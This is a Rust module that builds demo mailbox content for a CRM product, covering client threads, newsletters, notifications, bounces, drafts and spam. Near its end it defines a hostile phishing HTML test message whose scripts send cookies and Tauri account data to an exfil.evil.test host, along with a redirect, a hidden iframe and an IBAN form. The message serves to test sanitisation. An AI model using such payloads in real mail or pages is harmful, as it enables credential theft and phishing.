//! The messages that show off a feature or a CRM rule: the walkthrough thread with a known client, a
//! client with two open deals, a vCard, attachments, newsletters with remote images and a tracking pixel,
//! notifications, team mail, new senders, a trade-fair portal, the accountants on the exception list,
//! an auto-reply, a bounce, drafts, spam and a hostile message.

use super::data::{self, Lang, MAILBOX_ADDR};
use super::mail::{mailbox_person, Client, Gen, Me, ThreadSpec, DAY, HOUR};
use super::mime::{Attachment, Body, Mail, Person};
use super::text;

/// The subject of the walkthrough thread (search for "fleet rollout").
pub const WALKTHROUGH_SUBJECT: &str = "Fleet rollout: revised quote for 40 vehicles";

/// A newsletter: (sender name, address, domain, subject template, days between issues, headlines).
type Series = (&'static str, &'static str, &'static str, &'static str, i64, &'static [&'static str]);

/// A small but valid PDF with one line of text.
fn pdf(title: &str) -> Vec<u8> {
    let title: String = title.chars().filter(|c| c.is_ascii_alphanumeric() || *c == ' ').collect();
    let stream = format!("BT /F1 18 Tf 72 720 Td ({title}) Tj ET");
    let objs = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_string(),
        format!("<< /Length {} >>\nstream\n{stream}\nendstream", stream.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_string(),
    ];
    let mut out = String::from("%PDF-1.4\n");
    let mut offsets = Vec::new();
    for (i, o) in objs.iter().enumerate() {
        offsets.push(out.len());
        out.push_str(&format!("{} 0 obj\n{o}\nendobj\n", i + 1));
    }
    let xref = out.len();
    out.push_str(&format!("xref\n0 {}\n0000000000 65535 f \n", objs.len() + 1));
    for off in offsets {
        out.push_str(&format!("{off:010} 00000 n \n"));
    }
    out.push_str(&format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", objs.len() + 1));
    out.into_bytes()
}

/// A 1×1 PNG.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00,
    0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4, 0x89, 0x00, 0x00, 0x00, 0x0D, 0x49,
    0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0, 0x1F, 0x00, 0x05, 0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D,
    0x1D, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

fn att(filename: &str, mime_type: &str, data: Vec<u8>) -> Attachment {
    Attachment { filename: filename.into(), mime_type: mime_type.into(), data }
}

fn with_attachments(mail: &mut Mail, list: Vec<Attachment>) {
    if let Body::Normal { attachments, .. } = &mut mail.body {
        *attachments = list;
    }
}

fn with_html(mail: &mut Mail, html: String) {
    if let Body::Normal { html: h, .. } = &mut mail.body {
        *h = Some(html);
    }
}

impl Gen {
    /// Everything in this module.
    pub fn extras(&mut self) {
        self.walkthrough();
        self.two_open_deals();
        self.vcard_and_attachments();
        self.newsletters();
        self.notifications();
        self.team_mail();
        self.new_senders();
        self.trade_fair_portal();
        self.accountants();
        self.auto_replies_and_bounce();
        self.drafts();
        self.junk();
    }

    /// Anna Schneider (Nordwind Logistik) and the fleet rollout: the thread the README walks through.
    fn walkthrough(&mut self) {
        // Anna writes to her international suppliers in English.
        let anna = Client { lang: Lang::En, ..Client::of_company(data::NORDWIND, 0) };
        let juergen = Client::of_company(data::NORDWIND, 1);
        let daniel = Me::user(data::DANIEL);
        let start = self.at(9, 9, 12, 60);
        let mut spec = ThreadSpec::new(
            &anna,
            &daniel,
            WALKTHROUGH_SUBJECT.into(),
            "the board approved the fleet rollout for next year: 40 vehicles across our Hamburg, Bremen and \
             Hannover depots. Could you send a revised quote for the 40-vehicle package, including the telematics \
             add-on and driver training? We would like to sign before the end of the quarter."
                .into(),
            start,
            4,
        );
        spec.replies = vec![
            "great news, thank you! Attached is the revised quote: 40 vehicle licences, the telematics add-on \
             and two driver training days, 48,500 EUR per year. The price is valid until the end of the month."
                .into(),
            "thanks for the quick turnaround. I am copying Jürgen from procurement. Two points before we sign: can \
             the training days take place in January, and is the three-year price guarantee still possible?"
                .into(),
            "Jürgen confirmed the budget this morning. If you can confirm the January training dates and the price \
             guarantee, we can sign the contract this week."
                .into(),
        ];
        // Two client emails in a row at the end: the last one waits for an answer.
        spec.incoming = vec![true, false, true, true];
        spec.dates = vec![start, self.at(8, 10, 41, 60), self.at(6, 14, 5, 60), self.at(1, 8, 47, 60)];
        spec.cc = Some(juergen.person.clone());
        spec.cc_from = 2;
        spec.attachments = vec![(1, att("Angebot_Nordwind_Flottenrollout_2027.pdf", "application/pdf", pdf("Quote")))];
        let idx = self.thread(spec);
        if let Some(&i) = idx.last() {
            self.out[i].flagged = true;
        }
    }

    /// Ferretti Arredamenti has two open deals: their mail asks the user to choose one.
    fn two_open_deals(&mut self) {
        let paolo = Client::of_company(data::FERRETTI, 0);
        let sofia = Me::user(data::SOFIA);
        let start = self.at(3, 11, 20, 60);
        let mut spec = ThreadSpec::new(
            &paolo,
            &sofia,
            "Showroom Milano refit: campioni dei tessuti e tempi di consegna".into(),
            "per il rifacimento dello showroom di Milano ci servono i campioni dei tessuti entro la prossima \
             settimana. Riuscite a confermare i tempi di consegna? Intanto il catalogo 2027 può aspettare."
                .into(),
            start,
            1,
        );
        spec.archived = false;
        self.thread(spec);
    }

    /// A new contact arrives as a vCard (imported by processing), and a client sends files.
    fn vcard_and_attachments(&mut self) {
        let michael = Client::of_company(data::KESSLER, 0);
        let date = self.at(6, 9, 55, 60);
        let mid = self.mid(michael.domain());
        let vcf = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Käthe Schäfer\r\nN:Schäfer;Käthe;;;\r\n\
                   ORG:Kessler & Söhne Maschinenbau\r\nTITLE:Leiterin Einkauf\r\n\
                   EMAIL;TYPE=work:k.schaefer@kessler-maschinenbau.test\r\nTEL;TYPE=work:+49 711 5550 142\r\n\
                   END:VCARD\r\n";
        let mut m = Mail::text(
            michael.person.clone(),
            vec![mailbox_person()],
            "Neue Ansprechpartnerin im Einkauf: Käthe Schäfer",
            date,
            mid,
            format!(
                "Hallo Daniel,\n\nab dem 1. des Monats übernimmt Käthe Schäfer den Einkauf bei uns. Ihre \
                 Kontaktdaten hänge ich als Visitenkarte an, dazu unsere aktualisierte Lieferantenselbstauskunft.\n\n\
                 Bitte richten Sie Angebote zum Wartungsvertrag künftig an sie.\n\n{}\n",
                text::client_signoff(Lang::De, &michael.person.name, &michael.company)
            ),
        );
        m.tz_minutes = michael.tz;
        with_attachments(
            &mut m,
            vec![
                att("Käthe_Schäfer.vcf", "text/vcard", vcf.as_bytes().to_vec()),
                att("Lieferantenselbstauskunft_2027.pdf", "application/pdf", pdf("Lieferantenselbstauskunft 2027")),
            ],
        );
        self.push("inbox", m, true);

        let kaethe = Person::new("Käthe Schäfer", "k.schaefer@kessler-maschinenbau.test");
        let mid = self.mid("kessler-maschinenbau.test");
        let mut m = Mail::text(
            kaethe,
            vec![mailbox_person()],
            "Wartungsvertrag Maschinenpark – Rahmenvertrag 2027",
            self.at(2, 11, 2, 60),
            mid,
            "Guten Tag Herr Weber,\n\nich habe den Vorgang von Herrn Kessler übernommen. Können Sie mir den \
             Entwurf des Rahmenvertrags für 2027 schicken? Wir möchten ihn noch vor Jahresende prüfen.\n\n\
             Freundliche Grüße\nKäthe Schäfer\nLeiterin Einkauf\nKessler & Söhne Maschinenbau\n"
                .into(),
        );
        m.tz_minutes = 60;
        self.push("inbox", m, true);

        let megan = Client::of_company(data::BRIGHTLINE, 0);
        let mid = self.mid(megan.domain());
        let mut m = Mail::text(
            megan.person.clone(),
            vec![mailbox_person()],
            "Requirements for the analytics rollout (spreadsheet + mockup)",
            self.at(4, 9, 30, -300),
            mid,
            format!(
                "Hi Marta,\n\nas promised, attached are our requirements for the rollout and a mockup of the \
                 dashboard our reps would like to see first thing in the morning.\n\n{}\n",
                text::client_signoff(Lang::En, &megan.person.name, &megan.company)
            ),
        );
        m.tz_minutes = megan.tz;
        let csv = "requirement,priority,owner\nShared inbox for the sales team,must,Megan\n\
                   Deal stage in the sidebar,must,Jason\nWeekly pipeline report,should,Priya\n\
                   Italian and German UI,could,Megan\n";
        with_attachments(
            &mut m,
            vec![
                att("requirements.csv", "text/csv", csv.as_bytes().to_vec()),
                att("dashboard-mockup.png", "image/png", PNG.to_vec()),
            ],
        );
        let i = self.push("inbox", m, true);
        self.out[i].flagged = true;
    }

    /// Three newsletters: HTML with remote images, a tracking pixel and list headers.
    fn newsletters(&mut self) {
        let series: [Series; 3] = [
            (
                "Logistics Weekly",
                "news@logisticsweekly.test",
                "logisticsweekly.test",
                "Logistics Weekly #{n}: {h}",
                7,
                &[
                    "Port congestion eases in Rotterdam",
                    "Electric vans: total cost of ownership in 2027",
                    "Five KPIs every fleet manager should track",
                    "Rail freight capacity to grow 12% next year",
                    "Warehouse robotics: what actually pays off",
                ],
            ),
            (
                "SaaS Growth Digest",
                "digest@saasgrowth.test",
                "saasgrowth.test",
                "{h} | SaaS Growth Digest",
                7,
                &[
                    "Why your pipeline reviews run long",
                    "Pricing pages that convert",
                    "The follow-up email nobody answers",
                    "Churn signals hiding in your inbox",
                ],
            ),
            (
                "Fachmesse Logistik 2027",
                "newsletter@fachmesse-logistik.test",
                "fachmesse-logistik.test",
                "Fachmesse Logistik 2027: {h}",
                14,
                &[
                    "Jetzt Standfläche sichern – Frühbucherrabatt bis Monatsende",
                    "Das Vortragsprogramm ist online",
                    "Hallenplan und Anreise für Aussteller",
                    "Nur noch wenige Stände frei",
                ],
            ),
        ];
        for (si, (name, addr, domain, subject_t, every, heads)) in series.iter().enumerate() {
            let mut date = self.days_ago(57, 60) + si as i64 * 5 * HOUR;
            let mut n = 140 + si * 17;
            while date < self.now - HOUR {
                let h = heads[n % heads.len()];
                let subject = subject_t.replace("{n}", &n.to_string()).replace("{h}", h);
                let mid = self.mid(domain);
                let text_body = format!(
                    "{h}\n\nRead this issue online: https://{domain}/issues/{n}\n\n\
                     You receive this newsletter because you subscribed at {domain}.\n\
                     Unsubscribe: https://{domain}/unsubscribe?u=8f3a{n}\n"
                );
                let mut m = Mail::text(Person::new(name, addr), vec![mailbox_person()], &subject, date, mid, text_body);
                with_html(&mut m, newsletter_html(name, domain, h, n));
                m.extra_headers = vec![
                    ("List-Id".into(), format!("{name} <news.{domain}>")),
                    (
                        "List-Unsubscribe".into(),
                        format!(
                            "<https://{domain}/unsubscribe?u=8f3a{n}>, <mailto:unsubscribe@{domain}?subject=8f3a{n}>"
                        ),
                    ),
                    ("List-Unsubscribe-Post".into(), "List-Unsubscribe=One-Click".into()),
                    ("Precedence".into(), "bulk".into()),
                ];
                let age = self.now - date;
                let role = if age > 30 * DAY && self.rng.chance(40) { "trash" } else { "inbox" };
                let seen = age > 2 * DAY || self.rng.chance(30);
                self.push(role, m, seen);
                date += every * DAY + self.rng.range(-3 * HOUR, 3 * HOUR);
                n += 1;
            }
        }
    }

    /// Machine mail from no-reply senders.
    fn notifications(&mut self) {
        let kinds: [(&str, &str, &str, &str); 5] = [
            (
                "CloudSuite Billing",
                "noreply@cloudsuite.test",
                "Your invoice for {m} is ready",
                "Your invoice is ready. Download it from your account: https://cloudsuite.test/billing",
            ),
            (
                "CloudSuite",
                "no-reply@cloudsuite.test",
                "Weekly usage report: {k} new sign-ups",
                "This week: {k} new sign-ups, 3 seats added, 0 incidents.",
            ),
            (
                "Calendar",
                "noreply@calendar-app.test",
                "Reminder: Pipeline review on Friday at 10:00",
                "Pipeline review — Friday 10:00–11:00 — Video call: https://calendar-app.test/j/482913",
            ),
            (
                "Calendar",
                "noreply@calendar-app.test",
                "Invitation: Call with {c}",
                "You have been invited to a call with {c}. Accept or decline: https://calendar-app.test/e/77412",
            ),
            (
                "Signature Service",
                "do-not-reply@esign.test",
                "Document signed: {c} order form",
                "All parties have signed the order form. Download the signed copy: https://esign.test/d/3321",
            ),
        ];
        for i in 0..12 {
            let (name, addr, subj, body) = kinds[i % kinds.len()];
            let c = data::COMPANIES[(i * 7) % data::COMPANIES.len()].name;
            let date = self.days_ago((i as i64 * 5) % 58, (i as i64 * 5) % 58 + 2);
            let month = last_month(date);
            let fill = |s: &str| s.replace("{m}", month).replace("{k}", &(4 + i * 3).to_string()).replace("{c}", c);
            let domain = addr.rsplit_once('@').map(|(_, d)| d).unwrap_or("example.test");
            let mid = self.mid(domain);
            let m = Mail::text(Person::new(name, addr), vec![mailbox_person()], &fill(subj), date, mid, fill(body));
            let role = if self.now - date > 40 * DAY { "trash" } else { "inbox" };
            self.push(role, m, self.now - date > DAY);
        }
    }

    /// Mail between team members: never goes to the CRM.
    fn team_mail(&mut self) {
        let user = |i: usize| Person::new(data::USERS[i].0, data::USERS[i].1);
        let items: [(usize, &str, &str, i64); 8] = [
            (data::MARTA, "Pipeline review on Friday", "Hi all,\n\nplease update your deal stages before Friday's review. Nordwind and Northwave are the two I want to go through in detail.\n\nMarta", 3),
            (data::MARTA, "Q1 targets", "Hi team,\n\nthe Q1 targets are in the shared folder. Short version: +15% new business, and every open deal needs a next step.\n\nMarta", 12),
            (data::DANIEL, "Nordwind: can someone cover the call on Thursday?", "Hi,\n\nI'm at the Kessler workshop on Thursday. Could someone take the Nordwind call at 3 pm? Notes are in the CRM.\n\nDaniel", 5),
            (data::SOFIA, "Ferie di dicembre — turni", "Ciao a tutti,\n\nho messo in calendario i turni per le ferie di dicembre. Controllate che le date siano giuste entro venerdì.\n\nSofia", 9),
            (data::DANIEL, "Messe-Planung Logistik 2027", "Hallo zusammen,\n\nfür die Fachmesse Logistik brauchen wir bis Monatsende die Standbesetzung. Wer kann an welchen Tagen?\n\nDaniel", 20),
            (data::MARTA, "New price list (valid from January)", "Hi all,\n\nthe new price list goes out on Monday. Please don't send quotes for next year before then.\n\nMarta", 27),
            (data::TOM, "Handover of my accounts", "Hi everyone,\n\nas you know, Friday is my last day. I've moved my open deals to Daniel and Sofia; the notes are in the CRM. It was a pleasure!\n\nTom", 41),
            (data::SOFIA, "Caffè Aurora: nuova referente", "Ciao Marta,\n\nin Caffè Aurora la nuova referente per gli acquisti è Valentina Russo. Ho aggiornato il contatto nel CRM.\n\nSofia", 16),
        ];
        for (who, subject, body, days) in items {
            let date = self.days_ago(days, days + 1);
            let mid = self.mid("dealbox-demo.test");
            let m = Mail::text(user(who), vec![mailbox_person()], subject, date, mid, body.into());
            let seen = self.now - date > DAY;
            self.push("inbox", m, seen);
        }
        // Our own note to the team: addressed only to our users.
        let date = self.days_ago(7, 8);
        let mid = self.mid("dealbox-demo.test");
        let m = Mail::text(
            Me::user(data::DANIEL).person(),
            vec![user(data::MARTA), user(data::SOFIA)],
            "Weekly numbers from the shared inbox",
            date,
            mid,
            "Hi Marta, hi Sofia,\n\n41 client emails this week, 6 new leads, median first reply 3 h 10 min.\n\nDaniel"
                .into(),
        );
        self.push("sent", m, true);
    }

    /// People the CRM does not know yet (new leads), a lead writing again, a returning customer, and our
    /// email to a new address (a new contact).
    fn new_senders(&mut self) {
        let inquiries: [(&str, &str, Lang, &str, &str); 10] = [
            ("Laura Gentili", "laura.gentili@gentili-moda.test", Lang::It, "Richiesta informazioni per 15 utenti", "siamo un'azienda di moda con 15 commerciali. Vorremmo capire se la vostra soluzione fa al caso nostro: è possibile una demo?"),
            ("Owen Fletcher", "owen@fletcher-bikes.test", Lang::En, "Inquiry: CRM for a 12-person sales team", "we are a bike distributor with a 12-person sales team and we are drowning in email. Do you offer a trial?"),
            ("Birgit Schwarz", "b.schwarz@schwarz-immobilien.test", Lang::De, "Anfrage: Testzugang für unser Team", "wir sind ein Maklerbüro mit acht Mitarbeitern. Können Sie uns einen Testzugang für zwei Wochen einrichten?"),
            ("Priyanka Rao", "priyanka.rao@gmail.com", Lang::En, "Question about pricing for freelancers", "I'm a freelance sales consultant. Is there a plan for a single user, and can I connect two mailboxes?"),
            ("Matteo Sala", "matteo.sala@salaviaggi.test", Lang::It, "Demo per agenzia di viaggi", "gestiamo un'agenzia di viaggi con tre sedi. Ci interessa collegare le email dei clienti alle pratiche: possiamo fissare una demo?"),
            ("Kerstin Vogt", "kerstin.vogt@vogt-dental.test", Lang::De, "Angebot für Praxisverwaltung?", "wir suchen eine Lösung, um Patientenanfragen per E-Mail besser zu verteilen. Ist Ihr Produkt dafür geeignet?"),
            ("Ethan Cole", "ethan.cole@coleandpartners.test", Lang::En, "Looking for an alternative to our current CRM", "our current CRM doesn't show email context. Could you send pricing for 25 seats and a migration estimate?"),
            ("Martina Longo", "martina.longo@libero.it", Lang::It, "Informazioni sul piano base", "vorrei sapere cosa comprende il piano base e se è disponibile in italiano."),
            ("Henrik Dahl", "henrik@dahl-marine.test", Lang::En, "Request for quote: 8 licenses", "please send a quote for 8 licenses with onboarding. We'd like to start in January."),
            ("Agnieszka Nowak", "a.nowak@nowak-logistics.test", Lang::En, "Partnership for the Polish market", "we are a logistics integrator in Poland and would like to discuss a reseller partnership."),
        ];
        for (i, (name, addr, lang, subject, first)) in inquiries.iter().enumerate() {
            let client = Client {
                person: Person::new(name, addr),
                first: name.split(' ').next().unwrap_or(name).into(),
                company: String::new(),
                lang: *lang,
                tz: 60,
            };
            let me = Me::user([data::DANIEL, data::SOFIA, data::MARTA][i % 3]);
            let start = self.days_ago(1 + (i as i64 * 4) % 40, 2 + (i as i64 * 4) % 40);
            let spec = ThreadSpec::new(&client, &me, subject.to_string(), first.to_string(), start, 1 + i % 3);
            self.thread(spec);
        }
        // A lead in progress writes again; a lost lead comes back (a returning customer).
        let again: [(&str, &str, &str, &str, i64); 3] = [
            ("Mia Schulz", "mia.schulz@web.de", "Partnerschaft – kurze Rückfrage", "Hallo,\n\nich wollte mich noch einmal wegen der Partnerschaft melden. Gibt es schon Neuigkeiten?\n\nViele Grüße\nMia Schulz", 4),
            ("Andrea Villa", "andrea.villa@villa-ceramiche.test", "Demo showroom: confermiamo martedì?", "Buongiorno,\n\nconfermiamo la demo di martedì alle 11 nel nostro showroom?\n\nCordiali saluti\nAndrea Villa\nVilla Ceramiche", 6),
            ("Nina Vogel", "nina.vogel@vogel-media.test", "Neuer Anlauf: Agenturpaket", "Hallo Daniel,\n\nletztes Jahr hat es nicht gepasst, aber jetzt haben wir das Budget. Können wir noch einmal über das Agenturpaket sprechen?\n\nViele Grüße\nNina Vogel\nVogel Media", 2),
        ];
        for (name, addr, subject, body, days) in again {
            let date = self.days_ago(days, days + 1);
            let domain = addr.rsplit_once('@').map(|(_, d)| d).unwrap_or("example.test");
            let mid = self.mid(domain);
            let m = Mail::text(Person::new(name, addr), vec![mailbox_person()], subject, date, mid, body.into());
            let seen = self.now - date > 2 * DAY;
            self.push("inbox", m, seen);
        }
        let date = self.days_ago(8, 9);
        let mid = self.mid("dealbox-demo.test");
        let m = Mail::text(
            Me::user(data::DANIEL).person(),
            vec![Person::new("Jonas Berger", "jonas.berger@berger-events.test")],
            "Unterlagen wie besprochen",
            date,
            mid,
            format!(
                "Hallo Herr Berger,\n\nvielen Dank für das nette Gespräch auf dem Branchentreff. Wie besprochen \
                 schicke ich Ihnen unsere Unterlagen; melden Sie sich gern für einen Testzugang.\n\n{}\n",
                text::our_signoff(Lang::De, "Daniel Weber")
            ),
        );
        self.push("sent", m, true);
    }

    /// A portal whose every email is a new lead (the mailbox's always-new-lead list).
    fn trade_fair_portal(&mut self) {
        let leads = [
            ("Riverside Dental Group", "Dr. Alan Pierce", 3),
            ("Baumann Holztechnik", "Sandra Baumann", 11),
            ("Lago Blu Hotels", "Roberto Fumagalli", 18),
            ("Keystone Logistics", "Maria Alvarez", 26),
        ];
        for (company, person, days) in leads {
            let date = self.days_ago(days, days + 1);
            let mid = self.mid("tradefair-portal.test");
            let body = format!(
                "New lead from booth B-214\n\nCompany: {company}\nContact: {person}\nInterest: shared inbox + CRM, \
                 10–50 seats\nNotes: asked for a demo after the fair.\n\nView the lead: \
                 https://tradefair-portal.test/leads/{}\n",
                mid.split('.').next().unwrap_or("")
            );
            let m = Mail::text(
                Person::new("Trade Fair Portal", data::ALWAYS_NEW_LEAD),
                vec![mailbox_person()],
                &format!("New lead: {company} is interested in your products"),
                date,
                mid,
                body,
            );
            self.push("inbox", m, self.now - date > DAY);
        }
    }

    /// The accountants' mail: their domain is on the exception list.
    fn accountants(&mut self) {
        let items = [
            ("Scadenze fiscali di novembre", "Gentile cliente,\n\nle ricordiamo le scadenze fiscali del mese: versamento IVA e ritenute entro il 16.\n\nStudio Bruni Commercialisti", 6),
            ("F24 da pagare entro il 16", "Buongiorno,\n\nin allegato trova il riepilogo degli F24 del mese. Ci faccia sapere se ha domande.\n\nDott.ssa Carla Bruni\nStudio Bruni Commercialisti", 15),
            ("Documenti per la dichiarazione IVA", "Buongiorno,\n\nper la dichiarazione IVA ci servono le fatture di acquisto del terzo trimestre.\n\nStudio Bruni Commercialisti", 33),
        ];
        for (subject, body, days) in items {
            let date = self.days_ago(days, days + 1);
            let mid = self.mid(data::EXCEPTION_DOMAIN);
            let m = Mail::text(
                Person::new("Studio Bruni Commercialisti", "studio@bruni-commercialisti.test"),
                vec![mailbox_person()],
                subject,
                date,
                mid,
                body.into(),
            );
            self.push("inbox", m, true);
        }
    }

    /// An out-of-office reply in English and one in German, and a bounce for a mistyped address.
    fn auto_replies_and_bounce(&mut self) {
        let jason = Client::of_company(data::BRIGHTLINE, 1);
        let date = self.days_ago(5, 6);
        let mid = self.mid(jason.domain());
        let mut m = Mail::text(
            jason.person.clone(),
            vec![mailbox_person()],
            "Automatic reply: Analytics seats renewal",
            date,
            mid,
            "I'm out of the office until Monday with limited access to email. For anything urgent about the \
             renewal, please contact Megan Carter (megan.carter@brightline.test)."
                .into(),
        );
        m.tz_minutes = jason.tz;
        m.extra_headers = vec![("Auto-Submitted".into(), "auto-replied".into())];
        self.push("inbox", m, true);

        let thomas = Client::of_company(data::SCHWARZWALD, 0);
        let date = self.days_ago(10, 11);
        let mid = self.mid(thomas.domain());
        let mut m = Mail::text(
            thomas.person.clone(),
            vec![mailbox_person()],
            "Abwesenheitsnotiz: Onlineshop Relaunch",
            date,
            mid,
            "Vielen Dank für Ihre Nachricht. Ich bin bis einschließlich Freitag nicht im Büro. In dringenden Fällen \
             wenden Sie sich bitte an Monika Weiß."
                .into(),
        );
        m.extra_headers = vec![("Auto-Submitted".into(), "auto-replied".into()), ("X-Autoreply".into(), "yes".into())];
        self.push("inbox", m, true);

        // We write to a mistyped address at Gruber Bau; the bounce comes back a minute later.
        let markus = Client::of_company(data::GRUBER, 0);
        let wrong = "m.schmit@gruber-bau.test";
        let date = self.days_ago(12, 13);
        let sent_mid = self.mid("dealbox-demo.test");
        let subject = "Baustellen-App: Zugangsdaten für Ihr Team";
        let m = Mail::text(
            Me::user(data::DANIEL).person(),
            vec![Person::new(&markus.person.name, wrong)],
            subject,
            date,
            sent_mid.clone(),
            format!(
                "Hallo Herr Schmitt,\n\nwie besprochen die Zugänge für Ihr Team: Die Einladungen gehen morgen früh \
                 raus.\n\n{}\n",
                text::our_signoff(Lang::De, "Daniel Weber")
            ),
        );
        self.push("sent", m, true);
        let mid = self.mid("mx.dealbox-demo.test");
        let mut b = Mail::text(
            Person::new("Mail Delivery System", "MAILER-DAEMON@mx.dealbox-demo.test"),
            vec![Person::new("", MAILBOX_ADDR)],
            "Undelivered Mail Returned to Sender",
            date + 70,
            mid,
            String::new(),
        );
        b.extra_headers = vec![("Auto-Submitted".into(), "auto-replied".into())];
        b.body = Body::Bounce {
            text: format!(
                "This is the mail system at host mx.dealbox-demo.test.\n\nI'm sorry to have to inform you that your \
                 message could not be delivered to one or more recipients.\n\n<{wrong}>: host mx.gruber-bau.test \
                 said: 550 5.1.1 User unknown\n"
            ),
            recipient: wrong.into(),
            original_headers: format!(
                "From: Daniel Weber (Demo Sales) <{MAILBOX_ADDR}>\nTo: <{wrong}>\nSubject: {}\nMessage-ID: <{sent_mid}>",
                super::mime::encode_words(subject)
            ),
        };
        self.push("inbox", b, true);
    }

    /// Unfinished replies.
    fn drafts(&mut self) {
        let items: [(usize, usize, &str, &str); 3] = [
            (4, 0, "Re: Rinnovo contratto", "Buongiorno Giovanni,\n\nper il rinnovo possiamo proporre"),
            (
                14,
                0,
                "Proposal for Oakridge Capital Partners",
                "Hi Nathan,\n\nfollowing our call, here is a first outline:\n\n- 30 seats\n- ",
            ),
            (data::GRUBER, 0, "Angebot Baustellen-App – Entwurf", "Hallo Herr Schmitt,\n\nanbei unser Angebot für "),
        ];
        for (company, person, subject, body) in items {
            let client = Client::of_company(company, person);
            let me = Me::user(data::responsible_for(company));
            let date = self.days_ago(0, 3);
            let mid = self.mid("dealbox-demo.test");
            let m = Mail::text(me.person(), vec![client.person.clone()], subject, date, mid, body.into());
            let i = self.push("drafts", m, true);
            self.out[i].draft = true;
        }
    }

    /// Spam, and a hostile phishing email with a script, an onerror handler and a link whose text lies.
    fn junk(&mut self) {
        let spam = [
            (
                "Parcel Service",
                "info@parcel-tracking-update.test",
                "You have (1) pending parcel — confirm the delivery fee",
            ),
            ("Lead Factory", "sales@leadfactory-db.test", "Increase your sales by 300% with our B2B leads database"),
            ("Rewards Team", "winner@lucky-rewards.test", "Congratulations! You have been selected"),
            ("SEO Experts", "audit@rank-first-seo.test", "SEO audit for dealbox-demo.test — 47 critical errors"),
            ("Crypto Fund", "invest@moonshot-capital.test", "Invitation to invest: 40% guaranteed returns"),
        ];
        for (i, (name, addr, subject)) in spam.iter().enumerate() {
            let date = self.days_ago(i as i64 * 6, i as i64 * 6 + 3);
            let domain = addr.rsplit_once('@').map(|(_, d)| d).unwrap_or("example.test");
            let mid = self.mid(domain);
            let mut m = Mail::text(
                Person::new(name, addr),
                vec![mailbox_person()],
                subject,
                date,
                mid,
                format!("{subject}\n\nClick here: https://{domain}/offer\n"),
            );
            with_html(
                &mut m,
                format!(
                    "<html><body><h2>{subject}</h2><p><a href=\"https://{domain}/offer\">Click here</a></p>\
                     <img src=\"https://{domain}/banner.jpg\" width=\"400\"></body></html>"
                ),
            );
            self.push("junk", m, false);
        }
        let date = self.at(1, 4, 13, 0);
        let mid = self.mid("nordwind-logistik-billing.test");
        let mut m = Mail::text(
            Person::new("Nordwind Logistik Accounts", "accounts@nordwind-logistik-billing.test"),
            vec![mailbox_person()],
            "Urgent: invoice NW-2026-1187 overdue — confirm payment details",
            date,
            mid,
            "Dear customer,\n\nyour invoice NW-2026-1187 is overdue. To avoid a service interruption, confirm your \
             payment details today: https://www.nordwind-logistik.test/billing\n"
                .into(),
        );
        with_html(&mut m, HOSTILE_HTML.into());
        self.push("junk", m, false);
    }
}

/// The name of the month before the one `ts` falls in (what an invoice sent then is for).
fn last_month(ts: i64) -> &'static str {
    const NAMES: [&str; 12] = [
        "January",
        "February",
        "March",
        "April",
        "May",
        "June",
        "July",
        "August",
        "September",
        "October",
        "November",
        "December",
    ];
    let m = time::OffsetDateTime::from_unix_timestamp(ts).map(|d| u8::from(d.month()) as usize).unwrap_or(1);
    NAMES[(m + 10) % 12]
}

/// The hostile message: everything here must be neutralised by the reader.
const HOSTILE_HTML: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.test/"></head>
<body onload="alert('onload')">
<p>Dear customer,</p>
<p>Your invoice <b>NW-2026-1187</b> is overdue. To avoid a service interruption, confirm your payment details today:</p>
<p><a href="http://203.0.113.66/nordwind/login.php">https://www.nordwind-logistik.test/billing</a></p>
<img src="x" onerror="fetch('https://exfil.evil.test/?c='+document.cookie)">
<script>window.__TAURI__ && window.__TAURI__.core.invoke('list_accounts').then(function (a) { fetch('https://exfil.evil.test/', {method: 'POST', body: JSON.stringify(a)}) })</script>
<iframe src="https://evil.test/frame" width="1" height="1"></iframe>
<form action="https://evil.test/collect" method="post"><input name="iban" placeholder="IBAN"><button>Confirm</button></form>
<a href="javascript:alert('js link')">View invoice</a>
</body></html>
"#;

fn newsletter_html(name: &str, domain: &str, headline: &str, n: usize) -> String {
    format!(
        r#"<html><head><style>body {{ font-family: Arial, sans-serif; background: #f4f4f4 }} .card {{ background: #fff; padding: 24px }}</style>
<link rel="stylesheet" href="https://cdn.{domain}/css/newsletter.css"></head>
<body><table width="600" align="center" class="card"><tr><td>
<img src="https://cdn.{domain}/img/header-{n}.png" alt="{name}" width="600" height="120">
<h1>{headline}</h1>
<p>This week's lead story, plus three short reads for busy teams.</p>
<p><img src="https://cdn.{domain}/img/story-{n}.jpg" alt="" width="560"></p>
<p><a href="https://{domain}/r/{n}?utm_source=newsletter&amp;utm_medium=email">Read the full story</a></p>
<p style="font-size: 11px; color: #888">You receive this newsletter because you subscribed at {domain}.
<a href="https://{domain}/unsubscribe?u=8f3a{n}">Unsubscribe</a></p>
</td></tr></table>
<img src="https://t.{domain}/open/8f3a{n}.gif" width="1" height="1" alt="" style="display:none">
</body></html>"#
    )
}
